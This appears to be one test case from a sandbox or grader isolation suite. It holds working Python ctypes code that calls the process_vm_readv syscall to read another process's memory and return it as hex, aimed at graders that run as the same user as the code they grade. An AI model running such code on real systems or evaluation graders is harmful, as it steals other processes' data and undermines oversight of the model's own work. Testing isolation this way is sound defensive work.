"""Read another process's memory with process_vm_readv.

Must be observed: the bytes that lie there never reach the host. Source: graders that share a user with what they grade.
"""

import ctypes
import os

NUMBERS = (139,)
ROLE = "solution"


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(targets):
    if targets["pid"] == os.getpid():
        return None
    size = targets["size"]
    here = ctypes.create_string_buffer(size)
    local, remote = Vector(ctypes.addressof(here), size), Vector(targets["address"], size)
    number = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
    got = ctypes.CDLL(None).syscall(number, targets["pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return "read " + here.raw.hex() if got == size else None
